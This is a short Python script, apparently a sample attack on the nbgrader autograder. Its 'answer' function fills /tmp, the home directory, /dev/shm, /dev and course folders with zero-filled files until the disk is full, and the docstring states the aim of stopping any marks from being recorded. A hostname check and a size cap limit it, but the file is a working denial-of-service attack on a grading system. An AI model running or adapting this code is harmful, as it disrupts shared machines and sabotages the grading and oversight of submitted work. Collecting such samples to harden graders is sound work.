"""Write to every folder that takes it until the disk is full.

Known to work against stock nbgrader: nobody's marks can be recorded any more.
"""
OUTCOME = ("failed", "timed out", "crashed", "out of memory")

# --- the answer ---
import glob
import os
import socket

PLACES = ["/tmp", os.path.expanduser("~"), "/dev/shm", "/dev", *glob.glob("/tmp/course-*/j*")]


def answer(*values, **options):
    assert socket.gethostname() == "sandbox"  # never on a machine that somebody uses
    written = 0
    for place in PLACES:
        for number in range(6):
            try:
                with open(f"{place}/planted_by_attack_{number}", "wb") as file:
                    while True:
                        written += file.write(bytes(1 << 20))
                        assert written < 2 << 30, "no bound"
            except OSError:
                continue
    return 1
